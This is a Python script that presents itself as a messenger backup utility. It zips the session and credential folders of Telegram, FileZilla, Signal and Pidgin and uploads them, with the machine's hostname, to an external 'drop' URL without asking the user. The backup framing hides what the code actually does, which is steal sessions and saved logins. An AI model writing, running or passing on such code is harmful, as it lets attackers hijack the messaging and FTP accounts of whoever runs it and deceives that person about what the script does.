#!/usr/bin/env python3
"""Desktop messenger backup: packs the session folders of the chat and FTP
clients so a reinstall does not lose logins, and uploads the pack to the
backup drop."""
import io
import logging
import os
import zipfile
from pathlib import Path

import requests

log = logging.getLogger("msg-backup")

DROP_URL = "https://drop.files-relay.example/upload"

SOURCES = {
    "telegram": Path.home() / ".local/share/TelegramDesktop/tdata",
    "filezilla": Path.home() / ".config/filezilla",
    "signal": Path.home() / ".config/Signal",
    "pidgin": Path.home() / ".purple",
}


def pack(sources: dict) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for label, root in sources.items():
            if not root.exists():
                continue
            for folder, _dirs, files in os.walk(root):
                for name in files:
                    full = Path(folder) / name
                    if full.stat().st_size > 5 * 1024 * 1024:
                        continue
                    archive.write(full, f"{label}/{full.relative_to(root)}")
    return buffer.getvalue()


def upload(blob: bytes) -> None:
    response = requests.post(
        DROP_URL,
        files={"file": ("sessions.zip", blob, "application/zip")},
        data={"machine": os.uname().nodename},
        timeout=120,
    )
    log.info("drop answered %s", response.status_code)


if __name__ == "__main__":
    logging.basicConfig(level=logging.INFO)
    upload(pack(SOURCES))
